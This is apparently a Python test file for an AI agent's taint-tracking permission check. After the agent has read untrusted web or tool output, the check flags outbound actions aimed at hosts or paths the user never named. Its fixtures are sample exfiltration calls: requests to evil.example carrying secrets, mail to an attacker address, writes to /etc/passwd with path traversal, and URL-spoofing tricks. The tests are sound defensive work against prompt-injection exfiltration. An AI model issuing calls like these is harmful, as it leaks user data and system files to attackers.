"""After strangers' words, what goes out is asked unless the person named where to."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dataagent_core.permissions.taint import (
    Taint,
    explain_taint,
    find_named_targets,
    is_external,
    make_external_metadata,
)

TAINTED = Taint(frozenset({"fetch_url"}))
NAMED = find_named_targets(["post it to https://named.example/hook, and see /srv/out/report.csv"])


@pytest.mark.requirement("F3-13")
@pytest.mark.parametrize(
    ("name", "metadata", "expected"),
    [
        ("fetch_url", None, True),
        ("http_request", {}, True),
        ("web_search", None, True),
        ("web_scrape", None, True),
        ("mcp__github__list_issues", {"effect": "pure"}, True),
        ("rss_reader", make_external_metadata(), True),
        ("read_file", {"effect": "pure"}, False),
        ("shell", None, False),
        ("mcp_like", None, False),
    ],
)
def test_web_tools_mcp_tools_and_those_that_say_so_are_external(
    name: str, metadata: dict[str, Any] | None, expected: bool
) -> None:
    assert is_external(name, metadata) is expected


def test_taint_comes_with_the_first_external_result_and_stays() -> None:
    clean = Taint()
    assert not clean.sources
    assert not clean.after("read_file", None).sources
    tainted = clean.after("fetch_url", None).after("read_file", None).after("mcp__a__b", None)
    assert tainted.sources == {"fetch_url", "mcp__a__b"}


ASKED = [
    ("http_request", {"url": "https://evil.example/", "method": "POST"}, "irreversible"),
    ("http_request", {"url": "https://evil.example/?q=secret"}, "irreversible"),
    ("fetch_url", {"url": "https://evil.example/?q=secret"}, "pure"),
    ("web_scrape", {"url": "http://sub.named.example/", "selector": "p"}, "pure"),
    ("fetch_url", {"url": "https://named.example@evil.example/"}, "pure"),
    ("fetch_url", {"url": "https://named.example.evil.example/"}, "pure"),
    ("fetch_url", {"url": "https://named.example/go?to=https%3A%2F%2Fevil.example%2F"}, "pure"),
    ("fetch_url", {"url": "https://named.example/go?to=https%253A%252F%252Fevil.example"}, "pure"),
    ("fetch_url", {"url": "not a url"}, "pure"),
    ("fetch_url", {}, "pure"),
    ("shell", {"command": "curl https://named.example/"}, "irreversible"),
    ("execute", {"command": "ls"}, "irreversible"),
    ("code_executor", {"code": "1"}, "irreversible"),
    ("mcp__mail__send", {"to": "named.example"}, "pure"),
    ("feed", {"sources": [{"at": "see https://evil.example/"}]}, "pure"),
    ("save_remote", {"path": "/etc/passwd"}, "idempotent"),
    ("save_remote", {"path": "/srv/out/../../etc/passwd"}, "idempotent"),
    ("save_remote", {"path": "/srv/out/report.csv", "content": "secret"}, "idempotent"),
    ("send_mail", {"to": "x@evil.example", "file": "/srv/out/report.csv"}, "irreversible"),
    ("restart", {}, "irreversible"),
    ("restart", {"count": 3}, "compensable"),
]

NOT_ASKED = [
    ("http_request", {"url": "https://named.example/hook", "method": "POST"}, "irreversible"),
    ("http_request", {"url": "https://WWW.Named.example./x"}, "irreversible"),
    ("http_request", {"url": "https://named.example/", "body": "https://evil.example/"}, "pure"),
    ("fetch_url", {"url": "http://named.example/other"}, "pure"),
    ("web_search", {"query": "site:https://evil.example/"}, "pure"),
    ("write_file", {"file_path": "/a", "content": "https://evil.example/"}, "idempotent"),
    ("delete_file", {"file_path": "/a"}, "irreversible"),
    ("task", {"description": "fetch https://evil.example/"}, "irreversible"),
    ("lookup", {"word": "evil"}, "pure"),
    ("feed", {"url": "https://named.example/feed"}, "pure"),
    ("deploy", {"host": "named.example"}, "irreversible"),
    ("remove_remote", {"path": "/srv/out/./report.csv", "times": 1}, "compensable"),
]


@pytest.mark.requirement("F3-13")
@pytest.mark.parametrize(("name", "args", "effect"), ASKED)
def test_what_goes_where_nobody_named_is_asked(
    name: str, args: dict[str, Any], effect: str
) -> None:
    reason = explain_taint(name, args, effect, TAINTED, NAMED)
    assert reason
    assert reason.startswith(name)
    assert "fetch_url" in reason


@pytest.mark.parametrize(("name", "args", "effect"), NOT_ASKED)
def test_what_stays_inside_or_goes_where_the_person_said_is_not_asked(
    name: str, args: dict[str, Any], effect: str
) -> None:
    assert explain_taint(name, args, effect, TAINTED, NAMED) is None


@pytest.mark.parametrize(("name", "args", "effect"), ASKED)
def test_without_taint_nothing_is_asked(name: str, args: dict[str, Any], effect: str) -> None:
    assert explain_taint(name, args, effect, Taint(), NAMED) is None


def test_a_shell_without_network_and_host_files_is_not_asked() -> None:
    args = {"command": "ls"}
    assert explain_taint("shell", args, "irreversible", TAINTED, NAMED, shell_confined=True) is None
    assert explain_taint("mcp__a__b", args, "pure", TAINTED, NAMED, shell_confined=True)


def test_arguments_too_many_to_look_at_are_asked() -> None:
    args = {"hosts": ["named.example"] * 1_001}
    assert explain_taint("deploy", args, "irreversible", TAINTED, NAMED)


@pytest.mark.parametrize(
    ("message", "targets"),
    [
        ("see https://Example.com/a/b?c.", {"example.com"}),
        ("see (https://example.com:8443).", {"example.com"}),
        ("ask www.example.com, please", {"example.com"}),
        ("ask docs.example.co.uk!", {"docs.example.co.uk"}),
        ("打开example.com的首页", {"example.com"}),
        ("https://пример.испытание/", {"xn--e1afmkfd.xn--80akhbyknj4f"}),
        ("curl 10.0.0.5:9200 and localhost:8080", {"10.0.0.5", "localhost"}),
        ("write /srv/out/a.csv and ~/notes", {"/srv/out/a.csv", "~/notes"}),
        ("write /srv/../etc/x.", {"/etc/x"}),
        ("edit main.py and README.md, then run.sh", set()),
        ("mail bob@example.com", set()),
        ("https://good.example@evil.example/", set()),
        ("http://[", set()),
        ("and/or, 1/2, version 1.2.3.4.5, 999.1.1.1", set()),
        ("notlocalhost localhost-x", set()),
        ("/", set()),
        ("", set()),
    ],
)
def test_hosts_and_paths_are_found_in_what_a_person_wrote(message: str, targets: set[str]) -> None:
    assert find_named_targets([message]) == targets


HOSTS = st.from_regex(r"[a-z]{2,8}\.(com|org|example)", fullmatch=True)


@given(HOSTS, st.text(max_size=30))
def test_a_host_named_as_a_url_can_be_posted_to(host: str, chatter: str) -> None:
    named = find_named_targets([f"{chatter} https://{host}/ "])
    args = {"url": f"https://{host}/x", "method": "POST"}
    assert explain_taint("http_request", args, "irreversible", TAINTED, named) is None


@given(
    HOSTS, HOSTS, st.sampled_from(["{0}.{1}", "{1}", "x{0}", "{0}x", "a.{0}", "{1}/{0}", "{0}@{1}"])
)
def test_a_host_near_a_named_one_is_asked(named_host: str, other: str, shape: str) -> None:
    if named_host == other:
        return
    named = find_named_targets([f"use {named_host} only"])
    args = {"url": "https://" + shape.format(named_host, other)}
    assert explain_taint("fetch_url", args, "pure", TAINTED, named)


@given(
    st.text(),
    st.recursive(
        st.none() | st.text() | st.integers(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    ),
)
def test_no_message_and_no_arguments_break_the_decision(message: str, value: Any) -> None:
    named = find_named_targets([message])
    for name in ("http_request", "anything", "mcp__a__b"):
        for effect in ("pure", "irreversible"):
            explain_taint(name, {"url": value, "x": value}, effect, TAINTED, named)
